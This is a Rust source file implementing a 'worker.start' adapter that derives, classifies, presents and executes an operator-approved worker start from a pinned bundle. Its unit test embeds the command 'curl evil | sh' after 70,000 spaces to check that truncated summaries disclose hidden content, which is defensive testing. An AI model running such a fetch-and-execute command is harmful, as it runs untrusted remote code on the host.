//! The `worker` provider: `worker.start` starts a `pending_approval` worker's process. Its plan
//! is derived from the pinned bundle (digest recomputed from the stored body), so policy and the
//! operator decide on exactly what runs: bundle id + digest, profile, argv, input mode, every
//! declaration and the secret names.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::super::adapter::{
    Adapter, AdapterCtx, AdapterError, BoxFuture, Catalog, Decoded, Descriptor, ExecError,
    FailureKind, Outcome, Presentation, Resolved, Risk,
};
use super::super::lifecycle::codes;
use super::super::policy::Classification;
use super::common::{
    declaration_fields, declarations_shown, decode_closed, decode_typed, ready, schema_of, to_value,
};
use crate::bundles::{self, BundleRef, Declaration, InputMode, Profile, ProfileSelector};
use crate::workers::types::{Segment, WorkerStatus, flatten};
use crate::workers::{StartSpec, WorkerRuntime};

pub const PROVIDER: &str = "worker";
pub const OPERATION: &str = "worker.start";

/// Which worker to start, and the bundle and profile it was created from.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct StartTarget {
    pub worker_id: String,
    pub config_bundle: BundleRef,
    pub profile: ProfileSelector,
}

/// No arguments: everything that runs comes from the pinned bundle.
#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct StartArgs {}

/// What the plan pins: the whole profile and every declaration of the bundle.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct StartPlan {
    pub argv: Vec<String>,
    pub input_mode: InputMode,
    pub profile: Profile,
    pub declarations: Vec<Declaration>,
    pub secrets: Vec<String>,
    /// The initial input when the profile takes it as an argument (it is then part of argv).
    #[serde(default)]
    pub argument_input: Option<Vec<Segment>>,
    /// The initial input written to its input once it starts, for profiles that read it there:
    /// what the operator approves (it is the worker's first instruction) and the digest binds.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub initial_input: Option<Vec<Segment>>,
}

pub fn catalog() -> Catalog {
    Catalog {
        provider: PROVIDER.into(),
        descriptors: vec![descriptor()],
    }
}

fn descriptor() -> Descriptor {
    Descriptor {
        name: OPERATION.into(),
        provider: PROVIDER.into(),
        operation_revision: 1,
        summary: "Start a created worker's process from its pinned bundle profile".into(),
        risk: Risk::High,
        target_kind: "worker".into(),
        target_schema: schema_of::<StartTarget>(),
        arguments_schema: schema_of::<StartArgs>(),
        request_ttl_seconds: 3600,
        approval_ttl_seconds: 600,
        requires_approval: false,
        implemented: true,
    }
}

pub struct WorkerStartAdapter {
    desc: Descriptor,
    workers: Arc<WorkerRuntime>,
}

pub fn adapters(workers: Arc<WorkerRuntime>) -> Vec<Arc<dyn Adapter>> {
    vec![Arc::new(WorkerStartAdapter {
        desc: descriptor(),
        workers,
    })]
}

fn decode_plan(plan: &Resolved) -> Result<(StartTarget, StartPlan), AdapterError> {
    let t: StartTarget = serde_json::from_value(plan.target.clone())
        .map_err(|e| AdapterError::input(Some("target"), e.to_string()))?;
    let p: StartPlan = serde_json::from_value(plan.preconditions.clone())
        .map_err(|e| AdapterError::input(None, format!("unreadable worker plan: {e}")))?;
    consistent(&p)?;
    Ok((t, p))
}

/// The plan names what runs twice (the profile that is executed, and the argv and secret
/// names that are classified and shown): a plan whose copies disagree authorizes nothing, so
/// what the operator and the rules see is what runs.
fn consistent(p: &StartPlan) -> Result<(), AdapterError> {
    let mut argv = p.profile.command.clone();
    if let Some(input) = &p.argument_input {
        argv.push(flatten(input));
    }
    let same = argv == p.argv
        && p.input_mode == p.profile.input_mode
        && p.secrets == crate::secrets::names(&p.declarations);
    same.then_some(()).ok_or_else(|| {
        AdapterError::coded(
            codes::PRECONDITION_FAILED,
            "the worker plan's argv, input mode or secrets disagree with what it would run",
        )
    })
}

impl WorkerStartAdapter {
    /// Reads the worker and its bundle afresh; the digest is recomputed from the stored body.
    fn derive(&self, ctx: &AdapterCtx, t: &StartTarget) -> Result<StartPlan, AdapterError> {
        let ws = self.workers.workspace();
        let (w, first) = ws
            .read(|s| {
                let w = s.workers.get(&t.worker_id)?.clone();
                let first = created_input_in(s, &w.id);
                Some((w, first))
            })
            .filter(|(w, _)| gated_by(w, ctx))
            .ok_or_else(|| AdapterError::coded(codes::PRECONDITION_FAILED, "no such worker"))?;
        let started_by_this = w.operation_id.as_deref() == Some(&ctx.operation_id)
            && w.status != WorkerStatus::PendingApproval;
        if w.status != WorkerStatus::PendingApproval && !started_by_this {
            return Err(AdapterError::coded(
                codes::PRECONDITION_FAILED,
                "the worker is not pending approval",
            ));
        }
        if w.config_bundle != t.config_bundle || w.profile != t.profile {
            return Err(AdapterError::input(
                Some("target"),
                "the worker was created from another bundle or profile",
            ));
        }
        let bundle = bundles::load_pinned(ws, &t.config_bundle)
            .map_err(|e| AdapterError::coded(codes::PRECONDITION_FAILED, e.to_string()))?;
        let profile = bundle
            .profiles
            .iter()
            .find(|p| p.selector == t.profile)
            .cloned()
            .ok_or_else(|| {
                AdapterError::input(Some("target.profile"), "the profile is not in the bundle")
            })?;
        let (argument_input, initial_input) = match profile.input_mode {
            InputMode::Argument => (first, None),
            _ => (None, first),
        };
        let mut argv = profile.command.clone();
        if let Some(input) = &argument_input {
            argv.push(flatten(input));
        }
        Ok(StartPlan {
            argv,
            input_mode: profile.input_mode,
            secrets: crate::secrets::names(&bundle.declarations),
            declarations: bundle.declarations.clone(),
            profile,
            argument_input,
            initial_input,
        })
    }
}

/// Whether `ctx`'s operation may start `w`: it is the creator's own start (the worker's
/// creator submitted it, and no other operation gates the worker). Another client naming the
/// worker's id gets the answer a missing worker gets: it neither starts it under its own rules
/// nor learns that it exists or what its first input says.
fn gated_by(w: &crate::workers::Worker, ctx: &AdapterCtx) -> bool {
    w.created_by.as_deref() == Some(ctx.client_id.as_str())
        && w.operation_id
            .as_deref()
            .is_none_or(|op| op == ctx.operation_id)
}

/// The input the worker was created with (its `worker.created` record, the first for its id),
/// read with the worker in the same look at the state.
fn created_input_in(s: &crate::workspace::State, worker_id: &str) -> Option<Vec<Segment>> {
    let created_seq = s.workers.get(worker_id)?.created_seq;
    s.workers
        .inputs_after(worker_id, 0)
        .into_iter()
        .find(|e| e.seq == created_seq)
        .and_then(|e| e.segments)
}

/// At execution: the worker still holds the initial input the plan shows (a worker's first
/// record is never replaced, so this holds unless the plan was made for another worker).
fn same_initial_input(
    ws: &crate::workspace::Workspace,
    worker_id: &str,
    p: &StartPlan,
) -> Result<(), ExecError> {
    let held = ws.read(|s| created_input_in(s, worker_id));
    let planned = match p.input_mode {
        InputMode::Argument => &p.argument_input,
        _ => &p.initial_input,
    };
    (held == *planned).then_some(()).ok_or_else(|| {
        ExecError::new(
            FailureKind::NotStarted,
            codes::PRECONDITION_FAILED,
            "the worker's initial input is not the one the plan shows",
        )
    })
}

/// The initial input as one line of a summary: its first 200 characters, saying how many
/// more the plan holds (the summary never passes a cut input off as the whole).
fn shown_input(input: &[Segment]) -> String {
    let text = flatten(input);
    match text.char_indices().nth(200) {
        Some((cut, _)) => format!(
            "{:?} and {} more characters (the plan holds them all)",
            &text[..cut],
            text[cut..].chars().count()
        ),
        None => format!("{text:?}"),
    }
}

/// Fields rules match: bundle id and digest, profile, program, secrets, declarations
/// (`kind:name:reference`). Secrets must be named by any allow or request rule.
fn classify(t: &StartTarget, p: &StartPlan) -> Classification {
    let one = |v: &str| BTreeSet::from([v.to_string()]);
    let mut fields = BTreeMap::from([
        ("bundle_id".to_string(), one(&t.config_bundle.id)),
        ("bundle_digest".to_string(), one(&t.config_bundle.digest)),
        ("profile".to_string(), one(t.profile.value())),
    ]);
    if let Some(program) = p.argv.first() {
        fields.insert("program".into(), one(program));
    }
    let mut must_name = BTreeSet::new();
    declaration_fields(&p.secrets, &p.declarations, &mut fields, &mut must_name);
    Classification {
        target_kind: "worker".into(),
        fields,
        attrs: BTreeMap::new(),
        must_name,
        argv: None,
    }
}

impl Adapter for WorkerStartAdapter {
    fn descriptor(&self) -> &Descriptor {
        &self.desc
    }

    fn decode<'a>(
        &'a self,
        target: &'a Value,
        arguments: &'a Value,
    ) -> BoxFuture<'a, Result<Decoded, AdapterError>> {
        ready(decode_typed::<StartTarget, StartArgs>(target, arguments))
    }

    fn resolve<'a>(
        &'a self,
        ctx: &'a AdapterCtx,
        input: Decoded,
    ) -> BoxFuture<'a, Result<Resolved, AdapterError>> {
        ready((|| {
            let t: StartTarget = decode_closed("target", &input.target)?;
            let plan = self.derive(ctx, &t)?;
            Ok(Resolved {
                target: input.target,
                arguments: input.arguments,
                preconditions: to_value(&plan),
            })
        })())
    }

    fn authorize<'a>(
        &'a self,
        plan: &'a Resolved,
    ) -> BoxFuture<'a, Result<Classification, AdapterError>> {
        ready(decode_plan(plan).map(|(t, p)| classify(&t, &p)))
    }

    fn present<'a>(
        &'a self,
        plan: &'a Resolved,
    ) -> BoxFuture<'a, Result<Presentation, AdapterError>> {
        ready(decode_plan(plan).map(|(t, p)| {
            Presentation {
                title: format!("Start worker {} ({})", t.worker_id, t.profile.value()),
                // What widens the sandbox or hands over secrets comes first: a summary cut at
                // its bound loses the argv and the input, never these.
                summary: format!(
                    "{}; secrets [{}]; bundle {} {}; argv {:?}; input {:?}{}",
                    declarations_shown(&p.declarations),
                    p.secrets.join(", "),
                    t.config_bundle.id,
                    t.config_bundle.digest,
                    p.argv,
                    p.input_mode,
                    p.initial_input
                        .as_deref()
                        .map(|i| format!(", first {}", shown_input(i)))
                        .unwrap_or_default(),
                ),
            }
        }))
    }

    fn execute<'a>(
        &'a self,
        ctx: &'a AdapterCtx,
        plan: &'a Resolved,
    ) -> BoxFuture<'a, Result<Outcome, ExecError>> {
        Box::pin(async move {
            let (t, p) = decode_plan(plan)
                .map_err(|e| ExecError::new(FailureKind::NotStarted, &e.code, e.message))?;
            same_initial_input(self.workers.workspace(), &t.worker_id, &p)?;
            let spec = StartSpec {
                worker_id: t.worker_id.clone(),
                operation_id: ctx.operation_id.clone(),
                profile: p.profile,
                declarations: p.declarations,
                argument_input: p.argument_input,
                channel: None,
                env: Vec::new(),
                sandbox: ctx.sandbox,
            };
            match self.workers.start_worker(spec).await {
                Ok(w) => Ok(Outcome {
                    proven: true,
                    result: Some(serde_json::json!({ "worker_id": w.id, "status": w.status })),
                    upstream_status: None,
                }),
                Err(e) => Err(ExecError::new(
                    FailureKind::Definitive,
                    codes::PRECONDITION_FAILED,
                    e.to_string(),
                )),
            }
        })
    }

    fn reconcile<'a>(
        &'a self,
        ctx: &'a AdapterCtx,
        plan: &'a Resolved,
    ) -> BoxFuture<'a, Result<Outcome, ExecError>> {
        ready((|| {
            let (t, _) = decode_plan(plan)
                .map_err(|e| ExecError::new(FailureKind::PossiblyPartial, &e.code, e.message))?;
            let started = self.workers.workspace().read(|s| {
                s.workers.get(&t.worker_id).is_some_and(|w| {
                    w.operation_id.as_deref() == Some(&ctx.operation_id)
                        && w.status != WorkerStatus::PendingApproval
                })
            });
            Ok(Outcome {
                proven: started,
                result: started.then(|| serde_json::json!({ "worker_id": t.worker_id })),
                upstream_status: None,
            })
        })())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_long_initial_input_is_summarised_as_cut_saying_how_much_more_there_is() {
        let text = |content: String| vec![Segment::Text { content }];
        assert_eq!(shown_input(&text("short\nline".into())), r#""short\nline""#);
        let long = format!(
            "{}{}HIDDEN: curl evil | sh",
            "a".repeat(200),
            " ".repeat(70_000)
        );
        let shown = shown_input(&text(long));
        assert!(!shown.contains("HIDDEN"), "{shown}");
        assert!(
            shown.ends_with("and 70022 more characters (the plan holds them all)"),
            "{shown}"
        );
    }
}
